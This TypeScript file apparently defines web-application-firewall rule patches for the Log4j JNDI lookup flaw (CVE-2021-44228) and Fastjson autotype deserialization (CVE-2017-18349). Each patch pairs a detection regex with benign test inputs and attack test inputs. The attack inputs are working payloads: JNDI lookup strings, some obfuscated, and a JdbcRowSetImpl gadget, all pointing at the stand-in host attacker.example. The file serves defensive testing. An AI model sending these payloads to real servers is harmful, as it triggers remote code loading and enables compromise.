// Libraries that Java applications carry: Log4j, Fastjson.
import { type CatalogPatch, definePatch, json } from '../entry.js';

const r = String.raw;

export const javaLibraryPatches: readonly CatalogPatch[] = [
  definePatch({
    id: 1007001,
    cve: 'CVE-2021-44228',
    title: 'Log4j 2 message lookup reaches JNDI',
    product: 'Apache Log4j 2',
    affected: '2.0-beta9 to 2.14.1',
    cwe: 'CWE-917',
    severity: 'critical',
    phase: 2,
    links: [
      [
        'REQUEST_URI_RAW|REQUEST_HEADERS|REQUEST_COOKIES|ARGS|ARGS_NAMES|REQUEST_BODY|XML:/*|XML://@*',
        r`@rx [$]\{\s*(?:jndi\s*:|[^}$]{0,30}[$]\{\s*[a-z0-9]{0,12}\s*:)`,
        'urlDecodeUni,htmlEntityDecode,lowercase',
      ],
    ],
    attack: [
      ['plain lookup in a header', 'GET /', { 'User-Agent': '${jndi:ldap://attacker.example/a}' }],
      [
        'nested lookups in a parameter',
        'GET /search?q=%24%7B%24%7Blower%3Aj%7Dndi%3Adns%3A%2F%2Fattacker.example%2Fx%7D',
      ],
      ['default-value trick in JSON', 'POST /login', json, '{"user":"${${::-j}${::-n}di:rmi://attacker.example/o}"}'],
    ],
    benign: [
      [
        'a template placeholder',
        'POST /templates',
        json,
        '{"body":"Dear ${customer.name}, your order ${order.id} left."}',
      ],
      ['the word in a search', 'GET /docs?q=jndi%3A+lookup+of+a+datasource'],
      ['a shell default', 'POST /snippets', {}, 'code=echo+%24%7BHOME%3A-none%7D'],
    ],
  }),
  definePatch({
    id: 1007017,
    cve: 'CVE-2017-18349',
    title: 'Fastjson instantiates types named in JSON',
    product: 'Alibaba Fastjson',
    affected: 'before 1.2.25',
    cwe: 'CWE-20',
    severity: 'critical',
    phase: 2,
    links: [
      [
        'ARGS:/@type$/',
        r`@rx ^l?(?:com\.sun\.|org\.apache\.|java\.lang\.|java\.net\.|javax\.|com\.mchange\.|org\.springframework\.)`,
        'trim,lowercase',
      ],
    ],
    attack: [
      [
        'row set with a JNDI name',
        'POST /api/pay',
        json,
        '{"a":{"@type":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"rmi://attacker.example/x","autoCommit":true}}',
      ],
    ],
    benign: [
      [
        'linked data',
        'POST /api/pay',
        json,
        '{"@context":"https://schema.org","@type":"Person","name":"com.sun.rowset"}',
      ],
      ['a type of our own', 'POST /api/pay', json, '{"@type":"card","number":"1"}'],
    ],
  }),
];
